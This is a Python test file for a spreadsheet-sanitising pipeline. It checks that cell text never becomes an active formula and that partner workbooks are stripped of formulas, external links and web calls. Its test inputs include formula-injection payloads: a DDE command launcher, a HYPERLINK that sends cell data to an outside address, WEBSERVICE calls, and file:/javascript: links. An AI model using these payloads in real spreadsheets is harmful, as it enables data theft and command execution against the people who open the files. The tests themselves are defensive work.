"""Nothing that we write acts: whatever a text begins with, whatever a partner's workbook brought along."""

from __future__ import annotations

import io

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from workbooks import acting_parts, data_types, outward_links, parts

from pipelines.fix_lists.marks import clear_marks, mark
from pipelines.safe_cells import clean_text, disarm, link_to_cell, link_to_web, put, put_text

ATTACKS = [
    '=HYPERLINK("http://198.51.100.7/?"&A1,"click")', "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1",
    "\r=1+1", "=", "==", '="a"&"b"', "#REF!", "=1\x00+1", "\uffff=1", "x" * 40_000, "{=1}", "'=1", "=[1]Other!A1",
]  # fmt: skip
TEXTS = st.one_of(
    st.text(), st.builds(str.__add__, st.sampled_from("=+-@\t\r\n"), st.text()), st.sampled_from(ATTACKS)
)


def _saved(book: Workbook) -> bytes:
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXTS, min_size=1, max_size=8))
def test_text_stays_text_whatever_it_begins_with(texts: list[str]) -> None:
    book = Workbook()
    for row, text in enumerate(texts, 1):
        put(book.active.cell(row, 1), text)
    content = _saved(book)
    assert acting_parts(content) == []
    assert data_types(content) <= {"s", "n", "inlineStr"}
    sheet = load_workbook(io.BytesIO(content)).active
    for row, text in enumerate(texts, 1):
        # XML itself turns the ends of lines into one kind.
        wanted = clean_text(text).replace("\r\n", "\n").replace("\r", "\n")
        assert (sheet.cell(row, 1).value or "").replace("\r\n", "\n").replace("\r", "\n") == wanted


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1"])
def test_an_edit_does_not_turn_text_into_a_formula(text: str) -> None:
    book = Workbook()
    put_text(book.active["A1"], text)
    assert load_workbook(io.BytesIO(_saved(book))).active["A1"].quotePrefix


def test_links_lead_to_the_web_or_into_the_workbook() -> None:
    book = Workbook()
    addresses = ["https://forms.example/1", "http://forms.example/2?a=b", "file:///etc/passwd", "javascript:alert(1)",
                 "\\\\server\\share", "mailto:a@b.example", "https://a.example/ x", "ftp://a.example"]  # fmt: skip
    for row, address in enumerate(addresses, 1):
        link_to_web(book.active.cell(row, 1), address)
    link_to_cell(book.active["B1"], "It's a sheet", "D17")
    content = _saved(book)
    assert outward_links(content) == ["http://forms.example/2?a=b", "https://forms.example/1"]
    link = load_workbook(io.BytesIO(content)).active["B1"].hyperlink
    assert (link.location, link.target) == ("'It''s a sheet'!D17", None)


def _acting_workbook() -> bytes:
    """A workbook with about everything that computes or reaches out."""
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target)
    sheet, lists = book.add_worksheet("Visits"), book.add_worksheet("Lists")
    bold = book.add_format({"bold": True, "bg_color": "#DDEEFF"})
    sheet.write_row(0, 0, ["Name", "Hours", "Twice"], bold)
    sheet.write_string(1, 0, "=1+1")
    sheet.write_number(1, 1, 2.5)
    sheet.write_formula(1, 2, "=B2*2", None, 5)
    sheet.write_array_formula("D2:D3", "{=B2:B3*3}", None, 7.5)
    sheet.write_formula(2, 2, "='[other.xlsx]Sheet1'!A1", None, "from elsewhere")
    sheet.write_url(4, 0, "https://198.51.100.7/track", string="a link")
    sheet.write_url(5, 0, "external:other.xlsx#A1", string="another file")
    sheet.write_comment("A1", "their own note")
    lists.write_column(0, 0, ["Tutoring", "Sports"])
    sheet.data_validation("A2:A9", {"validate": "list", "source": "=Lists!$A$1:$A$2"})
    sheet.data_validation(
        "B2:B9", {"validate": "decimal", "criteria": "between", "minimum": 0, "maximum": 24}
    )
    sheet.data_validation("C2:C9", {"validate": "custom", "value": '=WEBSERVICE("http://198.51.100.7")=1'})
    sheet.conditional_format("B2:B9", {"type": "formula", "criteria": "=$B2>3", "format": bold})
    sheet.add_table("F1:G3", {"columns": [{"header": "n"}, {"header": "m", "formula": "=[@n]*2"}]})
    book.define_name("Sneaky", '=WEBSERVICE("http://198.51.100.7")')
    book.define_name("Kinds", "=Lists!$A$1:$A$2")
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Visits!$B$2:$B$3"})
    sheet.insert_chart("J2", chart)
    book.close()
    return target.getvalue()


def test_a_partners_workbook_keeps_values_and_looks_and_nothing_that_acts() -> None:
    before = _acting_workbook()
    assert acting_parts(before)
    book = load_workbook(io.BytesIO(before), data_only=True, keep_links=False)
    disarm(book)
    content = _saved(book)
    assert acting_parts(content) == []
    assert outward_links(content) == []
    assert not any(b"WEBSERVICE" in part or b"198.51" in part for part in parts(content).values())
    book = load_workbook(io.BytesIO(content))
    rules = [rule for sheet in book.worksheets for rule in sheet.data_validations.dataValidation]
    assert {(rule.formula1, rule.formula2) for rule in rules} == {("Lists!$A$1:$A$2", None), ("0", "24")}
    assert "f" not in data_types(content)
    sheet = book["Visits"]
    assert [cell.value for cell in sheet[2][:4]] == ["=1+1", 2.5, 5, 7.5]
    assert sheet["C3"].value == "from elsewhere"
    assert sheet["A5"].value == "a link"
    assert sheet["A1"].font.bold
    assert sheet["A1"].comment.text == "their own note"
    assert list(book.defined_names) == ["Kinds"]
    assert sheet._charts == []


def test_a_note_that_a_partner_wrote_outlives_our_mark() -> None:
    book = Workbook()
    sheet = book.active
    sheet["B2"].comment = Comment("ask Monday", "Riverside")
    assert mark(sheet, 2, 1, "What must hold.\nTo correct: do so.") == "B2"
    assert "ask Monday" in sheet["B2"].comment.text
    assert "To correct: do so." in sheet["B2"].comment.text
    mark(sheet, 2, 1, "Another rule.")
    assert "Another rule." in sheet["B2"].comment.text
    clear_marks(sheet)
    assert sheet["B2"].comment.text == "ask Monday"
    assert sheet["B2"].fill.fill_type is None
    assert sheet["B2"].border.left.style is None


def test_in_a_merged_block_the_cell_that_shows_is_marked() -> None:
    book = Workbook()
    book.active.merge_cells("A2:A4")
    assert mark(book.active, 3, 0, "Words.") == "A2"
